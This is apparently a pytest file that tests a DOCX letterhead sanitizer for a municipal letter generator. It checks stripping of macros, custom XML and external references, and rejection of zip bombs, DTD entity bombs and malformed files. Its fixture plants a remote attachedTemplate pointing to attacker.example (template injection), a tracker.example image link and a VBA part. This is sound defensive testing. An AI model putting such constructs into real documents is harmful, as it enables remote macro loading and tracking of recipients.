"""A letterhead is reduced to what a letter needs; whatever else it carries stays behind, and
a file that is not a usable DOCX is a one-line error naming it."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document

from tests import fuzzcases
from tests.conftest import SAMPLES
from xbdocs import blank

MUNICIPAL = SAMPLES / "uglovsky-borodulikha-municipal.yaml"


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _hostile_letterhead() -> bytes:
    base = fuzzcases._real_docx()
    members = _members(base)
    rels = members["word/_rels/document.xml.rels"].decode()
    rels = rels.replace("</Relationships>", (
        '<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/>'
        '<Relationship Id="rId91" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/image" Target="http://tracker.example/p.png" TargetMode="External"/>'
        "</Relationships>"))
    settings_rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/'
        't.dotm" TargetMode="External"/></Relationships>')
    settings = members["word/settings.xml"].decode().replace(
        "</w:settings>", '<w:attachedTemplate r:id="rId1" xmlns:r="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships"/></w:settings>')
    return fuzzcases._with_parts(base, {
        "word/_rels/document.xml.rels": rels, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
        "word/_rels/settings.xml.rels": settings_rels, "word/settings.xml": settings,
        "customXml/item1.xml": "<secret/>"})


def test_only_what_a_letter_needs_is_kept(tmp_path):
    path = tmp_path / "blank.docx"
    path.write_bytes(_hostile_letterhead())
    cleaned = _members(blank.load(path))
    assert "word/vbaProject.bin" not in cleaned and "customXml/item1.xml" not in cleaned
    joined = b"".join(cleaned.values())
    assert b"attacker.example" not in joined and b"tracker.example" not in joined
    assert b"attachedTemplate" not in joined and b"macroEnabled" not in joined
    assert {"word/document.xml", "word/styles.xml", "word/settings.xml"} <= set(cleaned)
    header = next(name for name in cleaned if name.startswith("word/header"))
    assert "АДМИНИСТРАЦИЯ".encode() in cleaned[header]


def test_letters_on_a_hostile_letterhead_carry_none_of_it(run, tmp_path):
    path = tmp_path / "blank.docx"
    path.write_bytes(_hostile_letterhead())
    result = run("build", MUNICIPAL, "-o", tmp_path / "out", "--stage", "approval",
                 "--letterhead", path, "--no-sheet-count")
    assert result.code == 0, result.err
    letter = (tmp_path / "out" / "notice.docx").read_bytes()
    members = _members(letter)
    assert not [n for n in members if "vba" in n.lower() or n.startswith("customXml")]
    assert b"attacker.example" not in b"".join(members.values())
    document = Document(str(tmp_path / "out" / "notice.docx"))
    assert document.sections[0].header.paragraphs[0].text == "АДМИНИСТРАЦИЯ"


@pytest.mark.parametrize("variant, expected", [
    ("text", "not a DOCX (ZIP) file"), ("empty", "not a DOCX (ZIP) file"),
    ("truncated", "not a DOCX (ZIP) file"), ("broken-xml", "not well-formed XML"),
    ("no-document", "the part «word/document.xml» is missing"),
    ("entity-bomb", "declares a DTD"), ("zip-bomb", "unpacks to more than 50 MB"),
])
def test_unusable_letterheads(run, tmp_path, variant, expected):
    rng = iter(range(1000))

    class Pick:
        def choice(self, options):
            options = list(options)
            return variant if variant in options else options[next(rng) % len(options)]

    case = fuzzcases._letterhead_case(Pick())
    path = tmp_path / "blank.docx"
    path.write_bytes(case.file("blank.docx"))
    result = run("build", MUNICIPAL, "-o", tmp_path / "out", "--stage", "approval",
                 "--letterhead", path, "--no-sheet-count")
    assert result.code == 1
    assert f"{path}: not a usable letterhead: " in result.err and expected in result.err
    assert len(result.err.splitlines()) == 1
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("variant", ["no-sectpr", "no-styles", "docm", "good"])
def test_letterheads_that_still_work(run, tmp_path, variant):
    class Pick:
        def choice(self, options):
            options = list(options)
            return variant if variant in options else options[0]

    case = fuzzcases._letterhead_case(Pick())
    path = tmp_path / "blank.docx"
    path.write_bytes(case.file("blank.docx"))
    result = run("build", MUNICIPAL, "-o", tmp_path / "out", "--stage", "approval",
                 "--letterhead", path, "--no-sheet-count")
    assert result.code == 0, result.err
    assert Document(str(tmp_path / "out" / "notice.docx")).sections


def test_a_letterhead_too_large(run, tmp_path):
    path = tmp_path / "blank.docx"
    path.write_bytes(b"PK" + b"\0" * (blank.MAX_FILE_BYTES + 1))
    result = run("build", MUNICIPAL, "-o", tmp_path / "out", "--stage", "approval",
                 "--letterhead", path, "--no-sheet-count")
    assert result.code == 1 and "too large for a letterhead (DOCX)" in result.err


def _without_normal_style() -> bytes:
    """A letterhead whose styles.xml has no «Normal» (as some generators write it)."""
    import re

    buffer = io.BytesIO()
    document = Document()
    document.sections[0].header.paragraphs[0].text = "АДМИНИСТРАЦИЯ"
    document.save(buffer)
    members = _members(buffer.getvalue())
    styles = members["word/styles.xml"].decode("utf-8")
    stripped = re.sub(r'<w:style w:type="paragraph" w:default="1" w:styleId="Normal">.*?'
                      r'</w:style>', "", styles, flags=re.S)
    assert stripped != styles
    members["word/styles.xml"] = stripped.encode("utf-8")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return out.getvalue()


def test_a_letterhead_without_a_normal_style_gets_the_house_one(run, tmp_path):
    path = tmp_path / "blank.docx"
    path.write_bytes(_without_normal_style())
    result = run("build", MUNICIPAL, "-o", tmp_path / "out", "--stage", "approval",
                 "--letterhead", path, "--no-sheet-count")
    assert result.code == 0, result.err
    letter = Document(str(tmp_path / "out" / "approval-request.docx"))
    normal = letter.styles["Normal"]
    assert normal.font.name == "Times New Roman" and normal.font.size.pt == 14
    assert letter.sections[0].header.paragraphs[0].text == "АДМИНИСТРАЦИЯ"
    assert any("Губернатору" in p.text for p in letter.paragraphs)
